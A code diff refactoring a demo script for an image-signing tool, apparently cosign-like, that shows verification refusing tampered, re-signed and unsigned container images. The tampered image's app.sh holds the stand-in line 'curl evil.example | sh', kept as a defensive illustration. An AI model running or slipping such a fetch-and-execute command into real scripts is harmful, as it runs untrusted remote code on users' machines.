@@ -8,17 +8,14 @@ import { systemClock } from '../packages/countersign/src/host/system-clock.ts';
 import { systemRandom } from '../packages/countersign/src/host/system-random.ts';
 import { startHub } from '../packages/countersign/src/hub/start-hub.ts';
 import { silentLog } from '../packages/countersign/src/ports/log.ts';
-import { attachByHand } from './demo/attach-by-hand.ts';
 import { buildImage } from './demo/build-image.ts';
 import { tellKeyless } from './demo/keyless.ts';
+import { tellAttack, tellSigning, tellUnsigned } from './demo/keys.ts';
+import { tellPolicy } from './demo/policy.ts';
+import type { Expected, Story } from './demo/story.ts';
 
 const root = resolve(import.meta.dirname, '..');
 const program = join(root, 'packages/countersign/bin/countersign.cjs');
-
-interface Expected {
-  readonly exit: number;
-  readonly meaning: string;
-}
 
 class DemoFailed extends Error {}
 
@@ -37,76 +34,22 @@ async function main(): Promise<void> {
 }
 
 async function tell(folder: string, host: string): Promise<void> {
-  const image = `${host}/demo/app:v1`;
-  const run = async (argv: readonly string[], expected: Expected): Promise<void> =>
-    await runCommand(folder, argv, expected);
+  const run: Story['run'] = async (argv, expected) => await runCommand(folder, argv, expected);
   const license = { name: 'LICENSE', content: await readFile(join(root, 'LICENSE')) };
-  const honest = [license, { name: 'app.sh', content: new TextEncoder().encode('#!/bin/sh\necho hello\n') }];
-  const evil = [license, { name: 'app.sh', content: new TextEncoder().encode('#!/bin/sh\ncurl evil.example | sh\n') }];
-
-  step('Build an image from local files, and push it');
-  const digest = await buildImage(join(folder, 'honest'), 'v1', honest);
-  await run(['copy', 'oci:honest:v1', image], {
-    exit: 0,
-    meaning: `The registry now has the image ${digest.slice(0, 19)}….`,
-  });
-
-  step('Make a key pair, and sign the image by its digest');
-  await run(['generate-key-pair'], {
-    exit: 0,
-    meaning: 'cosign.key signs and stays secret; cosign.pub is for everybody.',
-  });
-  await run(['sign', '--key', 'cosign.key', `${host}/demo/app@${digest}`], {
-    exit: 0,
-    meaning: 'The signature lies in the registry, attached to the image.',
-  });
-
-  step('Verify it');
-  await run(['verify', '--key', 'cosign.pub', image], {
-    exit: 0,
-    meaning: 'ADMITTED: exactly this content was signed by this key.',
-  });
-
-  step('An attacker with the registry password moves the tag to a tampered image');
-  const tampered = await buildImage(join(folder, 'evil'), 'v1', evil);
-  await run(['copy', '--force', 'oci:evil:v1', image], {
-    exit: 0,
-    meaning: 'The registry let it happen: it only checks passwords.',
-  });
-  await run(['verify', '--key', 'cosign.pub', image], {
-    exit: 10,
-    meaning: 'REFUSED: the name is the same, but nobody signed what it points at now.',
-  });
-
-  step('The attacker attaches the old, genuine signature to the tampered image');
-  await run(['--output-file', 'old.json', 'download', 'signature', `${host}/demo/app@${digest}`], {
-    exit: 0,
-    meaning: 'Signatures are public.',
-  });
-  await run(['attach', 'signature', '--bundle', 'old.json', `${host}/demo/app@${tampered}`], {
-    exit: 12,
-    meaning: 'Countersign will not help with that, so the attacker does it by hand, with plain HTTP calls.',
-  });
-  await attachByHand(`http://${host}/v2/demo/app`, tampered, await readFile(join(folder, 'old.json')));
-  await run(['verify', '--key', 'cosign.pub', image], {
-    exit: 12,
-    meaning: 'REFUSED: the signature is genuine, and it speaks of another digest.',
-  });
-
-  step('An image that nobody ever signed');
-  await run(['copy', 'oci:honest:v1', `${host}/demo/other:v1`], { exit: 0, meaning: 'Pushed without any signature.' });
-  await run(['verify', '--key', 'cosign.pub', `${host}/demo/other:v1`], {
-    exit: 10,
-    meaning: 'REFUSED: every place where a signature could lie was read, and there is none.',
-  });
-
-  step('A registry that cannot be reached is not an unsigned image');
-  await run(['verify', '--key', 'cosign.pub', '--timeout', '2s', '127.0.0.1:1/demo/app:v1'], {
-    exit: 4,
-    meaning: 'COULD NOT FIND OUT: refused too, and nobody claims that the image is unsigned.',
-  });
-
-  await tellKeyless({ folder, host, honest: digest, tampered, step, run });
+  const script = (line: string) => ({ name: 'app.sh', content: new TextEncoder().encode(`#!/bin/sh\n${line}\n`) });
+  const story: Story = {
+    folder,
+    host,
+    honest: await buildImage(join(folder, 'honest'), 'v1', [license, script('echo hello')]),
+    tampered: await buildImage(join(folder, 'evil'), 'v1', [license, script('curl evil.example | sh')]),
+    step,
+    run,
+  };
+  await tellSigning(story);
+  await tellAttack(story);
+  await tellUnsigned(story);
+  await tellPolicy(story);
+  await tellKeyless(story);
 }
 
 const steps: string[] = [];
@@ -118,7 +61,7 @@ function step(title: string): void {
 
 async function runCommand(folder: string, argv: readonly string[], expected: Expected): Promise<void> {
   say(`\n   $ countersign ${argv.join(' ')}`);
-  const { code, output } = await spawned(folder, argv);
+  const { code, output } = await spawned(folder, argv, expected.shows ?? 'told');
   for (const line of output.trimEnd().split('\n')) if (line !== '') say(`   | ${line}`);
   if (code !== expected.exit) throw new DemoFailed(`wanted exit code ${expected.exit}, got ${code}`);
   say(`   → exit code ${code}. ${expected.meaning}`);
@@ -127,14 +70,16 @@ async function runCommand(folder: string, argv: readonly string[], expected: Exp
 async function spawned(
   folder: string,
   argv: readonly string[],
+  shows: 'told' | 'answer',
 ): Promise<{ readonly code: number | null; readonly output: string }> {
   const child = spawn(process.execPath, [program, ...argv], {
     cwd: folder,
     env: { ...process.env, COSIGN_PASSWORD: 'demo' },
-    stdio: ['ignore', 'ignore', 'pipe'],
+    stdio: ['ignore', shows === 'answer' ? 'pipe' : 'ignore', 'pipe'],
   });
   const chunks: Buffer[] = [];
-  child.stderr.on('data', (chunk: Buffer) => chunks.push(chunk));
+  child.stdout?.on('data', (chunk: Buffer) => chunks.push(chunk));
+  child.stderr?.on('data', (chunk: Buffer) => chunks.push(chunk));
   const code = await new Promise<number | null>((done) => child.on('close', done));
   return { code, output: Buffer.concat(chunks).toString() };
 }
